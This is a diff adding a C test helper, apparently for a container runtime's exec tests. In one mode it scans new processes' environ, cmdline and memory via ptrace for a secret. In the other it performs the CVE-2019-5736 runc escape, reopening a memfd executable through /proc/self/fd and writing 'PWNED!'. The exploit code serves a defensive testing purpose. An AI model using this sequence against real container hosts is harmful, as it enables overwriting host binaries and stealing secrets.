@@ -1,0 +1,239 @@
+/* A container process racing every process that appears in its PID
+ * namespace (test_exec_sync.py): the exec'd commands of ExecSync before
+ * their execve, and what they run.
+ *
+ * It follows the namespace's last pid (/proc/sys/kernel/ns_last_pid) and
+ * handles each new pid at once, in one of two modes:
+ *
+ *  - `read SECRET-REVERSED` (a container with CAP_SYS_PTRACE): reads
+ *    /proc/PID/exe, environ and cmdline, seizes it (PTRACE_SEIZE, then
+ *    interrupts and detaches it) and reads every readable region of
+ *    /proc/PID/mem, looking for the secret (given reversed, so that no
+ *    process holds it but those that had it already). One line per pid:
+ *      probe PID exe=EXE environ=N mem=N seized=0|1 secret=WHERE
+ *    (WHERE "-" when not found);
+ *  - `write`: the CVE-2019-5736 sequence on every process whose
+ *    executable is a memfd: /proc/PID/exe opened with O_PATH while it runs
+ *    (retried while the kernel refuses), then, once the process is gone,
+ *    reopened for writing through /proc/self/fd/N (retried while ETXTBSY)
+ *    and written. One line per
+ *    such pid: opened EXE open=ERRNO-NAME write=ERRNO-NAME ("ok" when it
+ *    worked).
+ *
+ * It writes DIR/ready when it runs, appends to DIR/log, and stops when
+ * DIR/stop appears. Built static against musl. */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static char secret[256];
+static size_t secret_len;
+static char buf[1 << 20];
+
+static ssize_t read_all(const char *path, char *b, size_t size)
+{
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        return -errno;
+    size_t n = 0;
+    while (n < size) {
+        ssize_t r = read(fd, b + n, size - n);
+        if (r <= 0)
+            break;
+        n += (size_t)r;
+    }
+    close(fd);
+    return (ssize_t)n;
+}
+
+static int has_secret(const char *b, size_t n) { return memmem(b, n, secret, secret_len) != NULL; }
+
+/* Bytes of /proc/PID/mem read; *found when the secret is in them. */
+static long scan_mem(int pid, int *found)
+{
+    char path[64];
+    static char maps[1 << 16];
+    snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+    ssize_t n = read_all(path, maps, sizeof(maps) - 1);
+    if (n <= 0)
+        return n;
+    maps[n] = '\0';
+    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        return -errno;
+    long total = 0;
+    for (char *line = maps; line && *line;) {
+        char *next = strchr(line, '\n');
+        if (next)
+            *next++ = '\0';
+        unsigned long start, end;
+        char perms[8];
+        if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) == 3 && perms[0] == 'r')
+            for (unsigned long a = start; a < end && total < (256L << 20);) {
+                size_t want = end - a < sizeof(buf) ? end - a : sizeof(buf);
+                ssize_t r = pread(fd, buf, want, (off_t)a);
+                if (r <= 0)
+                    break;
+                total += r;
+                /* the secret may straddle two reads: keep an overlap */
+                if (has_secret(buf, (size_t)r))
+                    *found = 1;
+                a += (unsigned long)r > secret_len ? (unsigned long)r - secret_len
+                                                   : (unsigned long)r;
+                if ((size_t)r < want)
+                    break;
+            }
+        line = next;
+    }
+    close(fd);
+    return total;
+}
+
+static void probe(FILE *log, int pid)
+{
+    char path[64], exe[256] = "?";
+    const char *where = "-";
+    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+    ssize_t n = readlink(path, exe, sizeof(exe) - 1);
+    exe[n > 0 ? n : 0] = '\0';
+    for (char *c = exe; *c; c++)
+        if (*c == ' ')
+            *c = '_'; /* "/memfd:x (deleted)" */
+    snprintf(path, sizeof(path), "/proc/%d/environ", pid);
+    ssize_t env = read_all(path, buf, sizeof(buf));
+    if (env > 0 && has_secret(buf, (size_t)env))
+        where = "environ";
+    snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
+    ssize_t cmd = read_all(path, buf, sizeof(buf));
+    if (cmd > 0 && has_secret(buf, (size_t)cmd))
+        where = "cmdline";
+    int seized = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
+    int found = 0;
+    long mem = scan_mem(pid, &found);
+    if (found)
+        where = "mem";
+    if (seized) {
+        /* stop it to detach it (a seized process that runs cannot be) */
+        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
+            int st;
+            if (waitpid(pid, &st, __WALL) == pid && !WIFEXITED(st) && !WIFSIGNALED(st))
+                ptrace(PTRACE_DETACH, pid, 0, 0);
+        }
+    }
+    fprintf(log, "probe %d exe=%s environ=%ld mem=%ld seized=%d secret=%s\n", pid, exe, (long)env,
+            mem, seized, where);
+    fflush(log);
+}
+
+static const char *errname(int ok, int e)
+{
+    return ok             ? "ok"
+           : e == EPERM   ? "EPERM"
+           : e == EROFS   ? "EROFS"
+           : e == ETXTBSY ? "ETXTBSY"
+                          : strerror(e);
+}
+
+static void attack(FILE *log, int pid)
+{
+    char path[64], exe[256];
+    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+    int fd = -1;
+    for (;;) {
+        /* the pid stays until its parent reaps it; exe goes at its exit */
+        if (kill(pid, 0) < 0)
+            return;
+        fd = open(path, O_PATH | O_CLOEXEC);
+        if (fd < 0)
+            continue;
+        ssize_t n = readlink(path, exe, sizeof(exe) - 1);
+        exe[n > 0 ? n : 0] = '\0';
+        if (strncmp(exe, "/memfd:", 7) == 0)
+            break;
+        close(fd); /* not (yet) a memfd: the command before it runs one */
+        fd = -1;
+    }
+    while (kill(pid, 0) == 0) {
+        char st[64], buf2[512];
+        snprintf(st, sizeof(st), "/proc/%d/stat", pid);
+        ssize_t n = read_all(st, buf2, sizeof(buf2) - 1);
+        buf2[n > 0 ? n : 0] = '\0';
+        char *r = strrchr(buf2, ')');
+        if (n <= 0 || (r && r[2] == 'Z'))
+            break; /* ended: a zombie runs nothing */
+    }
+    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+    /* busy while its last user lets go of it: retried, as the exploit does */
+    int w, tries = 0;
+    while ((w = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && ++tries < 100000)
+        ;
+    int oe = errno, we = 0;
+    ssize_t wn = -1;
+    if (w >= 0) {
+        wn = write(w, "PWNED!", 6);
+        we = errno;
+        close(w);
+    }
+    for (char *c = exe; *c; c++)
+        if (*c == ' ')
+            *c = '_';
+    fprintf(log, "opened %s open=%s write=%s\n", exe, errname(w >= 0, oe),
+            w < 0 ? "-" : errname(wn == 6, we));
+    fflush(log);
+    close(fd);
+}
+
+int main(int argc, char **argv)
+{
+    int write_mode = argc == 3 && strcmp(argv[2], "write") == 0;
+    if (!write_mode && !(argc == 4 && strcmp(argv[2], "read") == 0))
+        return 2;
+    if (!write_mode) {
+        secret_len = strlen(argv[3]);
+        if (secret_len == 0 || secret_len >= sizeof(secret))
+            return 2;
+        for (size_t i = 0; i < secret_len; i++)
+            secret[i] = argv[3][secret_len - 1 - i];
+        memset(argv[3], 'x', secret_len);
+    }
+    char path[512];
+    snprintf(path, sizeof(path), "%s/log", argv[1]);
+    FILE *log = fopen(path, "a");
+    if (!log)
+        return 1;
+    char stop[512];
+    snprintf(stop, sizeof(stop), "%s/stop", argv[1]);
+    int last = getpid();
+    snprintf(path, sizeof(path), "%s/ready", argv[1]);
+    close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
+    for (unsigned long spin = 0;; spin++) {
+        char v[32];
+        ssize_t n = read_all("/proc/sys/kernel/ns_last_pid", v, sizeof(v) - 1);
+        if (n > 0) {
+            v[n] = '\0';
+            int now = atoi(v);
+            for (int p = last + 1; p <= now; p++)
+                if (p != getpid()) {
+                    if (write_mode)
+                        attack(log, p);
+                    else
+                        probe(log, p);
+                }
+            if (now > last)
+                last = now;
+        }
+        /* reap what we traced and that ended, whoever's child it is */
+        while (waitpid(-1, NULL, __WALL | WNOHANG) > 0)
+            ;
+        if (spin % 1024 == 0 && access(stop, F_OK) == 0)
+            return 0;
+    }
+}
